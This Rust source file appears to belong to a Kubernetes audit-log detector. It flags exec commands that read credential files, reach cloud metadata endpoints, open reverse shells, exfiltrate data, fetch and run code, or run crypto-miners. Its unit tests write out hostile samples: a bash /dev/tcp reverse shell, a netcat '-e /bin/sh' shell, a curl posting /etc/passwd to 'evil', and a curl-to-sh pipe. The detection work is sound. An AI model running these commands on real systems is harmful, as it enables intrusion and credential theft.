//! Exec commands and container command lines, and the shapes of attack they take.
//!
//! Commands are matched as one lower-cased string of their arguments joined by spaces, so
//! `sh -c "..."` wrappers are read through.

use super::cx::Cx;

/// The command of a pods/exec request, as sent: the `command` query parameters of the URI
/// (how the API server records them), or `requestObject.command` (how some log shippers do).
pub(crate) fn exec_command(cx: &Cx<'_>) -> Option<String> {
    let mut out = String::new();
    if let Some((_, query)) = cx.event.request_uri().and_then(|u| u.split_once('?')) {
        for value in query.split('&').filter_map(|p| p.strip_prefix("command=")) {
            push_word(&mut out, &percent_decode(value));
        }
    }
    if out.is_empty() {
        let args = cx
            .object()
            .and_then(|o| o.get("command"))
            .and_then(|c| c.as_array());
        for arg in args.into_iter().flatten().filter_map(|a| a.as_str()) {
            push_word(&mut out, arg);
        }
    }
    (!out.is_empty()).then_some(out)
}

/// A container's `command` and `args`, joined.
pub(crate) fn container_command(container: &serde_json::Value) -> String {
    let mut out = String::new();
    for key in ["command", "args"] {
        let words = container.get(key).and_then(|c| c.as_array());
        for word in words.into_iter().flatten().filter_map(|a| a.as_str()) {
            push_word(&mut out, word);
        }
    }
    out
}

fn push_word(out: &mut String, word: &str) {
    if !out.is_empty() {
        out.push(' ');
    }
    out.push_str(word);
}

/// Decodes `%xx` and `+` (query-string space); malformed escapes stay as written.
pub(crate) fn percent_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        let hex = |at: usize| bytes.get(at).and_then(|c| (*c as char).to_digit(16));
        match (b, hex(i + 1), hex(i + 2)) {
            (b'%', Some(hi), Some(lo)) => {
                out.push((hi * 16 + lo) as u8);
                i += 3;
            }
            (b'+', _, _) => {
                out.push(b' ');
                i += 1;
            }
            _ => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

const CREDENTIAL_PATHS: &[&str] = &[
    "/run/secrets/kubernetes.io/serviceaccount",
    "/var/run/secrets/azure/tokens",
    "/var/run/secrets/eks.amazonaws.com/serviceaccount",
    "/var/run/secrets/tokens",
    "/etc/shadow",
    "/.ssh/id_",
    ".aws/credentials",
    ".kube/config",
    "/etc/kubernetes/admin.conf",
    "/etc/kubernetes/kubelet.conf",
    "/etc/kubernetes/pki",
    "/var/lib/kubelet/pki",
    ".docker/config.json",
    "application_default_credentials.json",
    ".azure/accesstokens.json",
];

/// The credential path a command names, if any.
pub(crate) fn credential_path(cmd: &str) -> Option<&'static str> {
    CREDENTIAL_PATHS.iter().copied().find(|p| cmd.contains(p))
}

const METADATA_HOSTS: &[&str] = &[
    "169.254.169.254",
    "metadata.google.internal",
    "169.254.170.2",
    "fd00:ec2::254",
    "100.100.100.200",
];

/// The cloud metadata endpoint a command names, if any.
pub(crate) fn metadata_host(cmd: &str) -> Option<&'static str> {
    METADATA_HOSTS.iter().copied().find(|h| cmd.contains(h))
}

/// `tar c...f -`: what `kubectl cp` runs to copy files out of a container.
pub(crate) fn is_copy_out(cmd: &str) -> bool {
    let mut words = cmd.split_whitespace();
    words.next() == Some("tar")
        && words
            .next()
            .is_some_and(|flags| flags.trim_start_matches('-').contains('c'))
}

fn is_netcat(word: &str) -> bool {
    matches!(word.rsplit('/').next(), Some("nc" | "ncat" | "netcat"))
}

/// A reverse shell: a shell whose input comes from a network socket.
pub(crate) fn is_reverse_shell(cmd: &str) -> bool {
    let dev_net = cmd.contains("/dev/tcp/") || cmd.contains("/dev/udp/");
    if dev_net
        && (cmd.contains("0>&1")
            || cmd.contains(">&")
            || cmd.contains("0<&")
            || cmd.contains(" -i"))
    {
        return true;
    }
    let words: Vec<&str> = cmd.split_whitespace().collect();
    let netcat_exec = words.iter().any(|w| is_netcat(w))
        && words
            .iter()
            .any(|w| matches!(*w, "-e" | "-c" | "--exec" | "--sh-exec"));
    netcat_exec
        || (cmd.contains("mkfifo")
            && (words.iter().any(|w| is_netcat(w)) || cmd.contains("openssl s_client")))
        || (cmd.contains("socat") && cmd.contains("exec:") && cmd.contains("tcp"))
        || (cmd.contains("python")
            && cmd.contains("socket")
            && (cmd.contains("pty") || cmd.contains("dup2") || cmd.contains("subprocess")))
        || (cmd.contains("perl") && cmd.contains("socket") && cmd.contains("exec"))
        || (cmd.contains("php") && cmd.contains("fsockopen"))
        || (cmd.contains("ruby") && cmd.contains("tcpsocket"))
}

/// Data sent out of the container: what the exfiltration detection names.
pub(crate) fn exfiltration(cmd: &str) -> Option<&'static str> {
    let words: Vec<&str> = cmd.split_whitespace().collect();
    if words.iter().any(|w| w.ends_with("curl")) && curl_sends_data(&words) {
        return Some("curl uploading data");
    }
    if words.iter().any(|w| w.ends_with("wget"))
        && words.iter().any(|w| {
            ["--post-file", "--post-data", "--body-file", "--body-data"]
                .iter()
                .any(|o| w.starts_with(o))
        })
    {
        return Some("wget posting data");
    }
    if netcat_to_host(&words) {
        return Some("netcat to a remote host");
    }
    if cmd.contains("base64") && credential_path(cmd).is_some() {
        return Some("base64 of a credential file");
    }
    if cmd.contains("/dev/tcp/") || cmd.contains("/dev/udp/") {
        return Some("a redirect to /dev/tcp");
    }
    None
}

fn curl_sends_data(words: &[&str]) -> bool {
    words.iter().enumerate().any(|(i, w)| {
        let next = words.get(i + 1).copied().unwrap_or("");
        match *w {
            "-t" | "--upload-file" => true,
            "-f" | "--form" => next.contains("=@") || next.contains("=<"),
            _ if w.starts_with("-d") || w.starts_with("--data") => {
                let arg = if w.contains('@') || w.contains("$(") {
                    w
                } else {
                    &next
                };
                arg.contains('@') || arg.contains("$(") || arg.contains('`')
            }
            _ => false,
        }
    })
}

fn netcat_to_host(words: &[&str]) -> bool {
    let Some(at) = words.iter().position(|w| is_netcat(w)) else {
        return false;
    };
    let args = words.get(at + 1..).unwrap_or(&[]);
    // A listener (-l) or a port scan (-z) is not sending data to a host.
    let listens = args.iter().any(|a| {
        a.starts_with('-') && !a.starts_with("--") && (a.contains('l') || a.contains('z'))
    });
    !listens
        && args
            .iter()
            .any(|a| !a.starts_with('-') && !a.starts_with('<') && !a.starts_with('>'))
}

/// A program fetched and run: curl or wget piped into a shell, or made executable.
pub(crate) fn is_download_and_run(cmd: &str) -> bool {
    let fetches = cmd.contains("curl ") || cmd.contains("wget ");
    let runs = [
        "| sh", "|sh", "| bash", "|bash", "| python", "|python", "chmod +x", "chmod 7", "chmod 07",
    ]
    .iter()
    .any(|p| cmd.contains(p));
    fetches && runs
}

const MINER_WORDS: &[&str] = &[
    "xmrig",
    "xmr-stak",
    "minerd",
    "cpuminer",
    "cgminer",
    "ethminer",
    "nbminer",
    "phoenixminer",
    "lolminer",
    "nanominer",
    "teamredminer",
    "t-rex",
    "cryptonight",
    "coinhive",
    "minergate",
    "stratum+tcp://",
    "stratum+ssl://",
    "stratum+tls://",
    "stratum2+tcp://",
    "--donate-level",
    "moneroocean",
    "supportxmr",
    "nanopool.org",
    "minexmr",
    "hashvault.pro",
    "c3pool",
    "2miners.com",
    "f2pool",
    "nicehash",
    "unmineable",
];

/// Ports mining pools listen on (Stratum), when given to a miner's `-o` or `--url`.
const POOL_PORTS: &[&str] = &["3333", "4444", "5555", "7777", "14433", "14444", "45700"];

/// What marks a command line or image as a miner, if anything.
pub(crate) fn miner(text: &str) -> Option<&'static str> {
    if let Some(word) = MINER_WORDS.iter().copied().find(|w| text.contains(w)) {
        return Some(word);
    }
    let words: Vec<&str> = text.split_whitespace().collect();
    words.windows(2).find_map(|pair| match pair {
        [flag, url] if matches!(*flag, "-o" | "--url") => {
            let port = url.rsplit(':').next().unwrap_or("");
            POOL_PORTS.contains(&port).then_some("a mining-pool port")
        }
        _ => None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decodes_query_values() {
        assert_eq!(percent_decode("%2Fvar%2Frun+x%zz"), "/var/run x%zz");
    }

    #[test]
    fn shapes_of_attack() {
        assert!(is_reverse_shell(
            "sh -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
        ));
        assert!(is_reverse_shell("nc 10.0.0.1 4444 -e /bin/sh"));
        assert!(!is_reverse_shell("nc -zv db 5432"));
        assert_eq!(
            exfiltration("curl -x post -d @/etc/passwd http://evil"),
            Some("curl uploading data")
        );
        assert_eq!(
            exfiltration("curl -f file=@/tmp/dump.tgz https://x"),
            Some("curl uploading data")
        );
        assert_eq!(
            exfiltration("nc 203.0.113.9 9000"),
            Some("netcat to a remote host")
        );
        assert_eq!(exfiltration("nc -lvnp 9000"), None);
        assert_eq!(exfiltration("curl -s http://localhost:8080/healthz"), None);
        assert!(is_download_and_run("sh -c curl -fssl http://x/i.sh | sh"));
        assert!(is_copy_out("tar cf - /app/data"));
        assert!(!is_copy_out("tar xf - -c /tmp"));
        assert_eq!(miner("./xmrig -o pool.example:3333"), Some("xmrig"));
        assert_eq!(
            miner("/app/run -o 198.51.100.7:14444 -u wallet"),
            Some("a mining-pool port")
        );
        assert_eq!(miner("nginx -g daemon off;"), None);
    }
}
